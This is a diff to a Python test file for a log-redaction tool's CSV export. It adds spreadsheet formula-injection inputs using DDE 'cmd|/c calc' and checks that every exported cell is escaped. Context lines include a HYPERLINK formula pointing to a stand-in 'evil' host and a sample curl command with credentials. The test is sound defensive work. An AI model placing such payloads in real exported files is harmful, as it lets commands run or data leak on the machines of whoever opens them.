@@ -127,6 +127,9 @@ def private(tmp_path: Path) -> Path:
         '[OP] LAUNCH =HYPERLINK("http://evil/?x") [id=1] target=gpu:0',
         '[OP] COMPLETE =HYPERLINK("http://evil/?x") [id=1] target=gpu:0',
         launch("/home/alice/kernels/x", 2),
+        launch("@SUM(1+1)*cmd|'/c calc'!A0", 3),
+        launch("+1+cmd", 4),
+        launch("matmul", 5) + ";=cmd|' /C calc'!A0",
         "hostname: gpu-node-17",
         'Pod "acme-chat-0" in /home/alice/x with password="correct horse"',
         "cookie: sid=0123456789abcdef; curl -u admin:SuperSecret http://x",
@@ -172,4 +175,11 @@ def test_tables_are_redacted_and_hold_no_formula(private: Path, tmp_path: Path) 
     run(tmp_path, private.name, "--redact", "--timeline-csv", "o.csv")
     with (tmp_path / "o.csv").open(newline="") as file:
         rows = list(csv.DictReader(file))
-    assert [row["name"] for row in rows] == ['\'=HYPERLINK("http://host-1/?x")', "/home/user-1/kernels/x"]
+    assert [row["name"] for row in rows] == [
+        '\'=HYPERLINK("http://host-1/?x")',
+        "/home/user-1/kernels/x",
+        "'@SUM(1+1)*cmd|'/c calc'!A0",
+        "'+1+cmd",
+        "matmul",
+    ]
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]
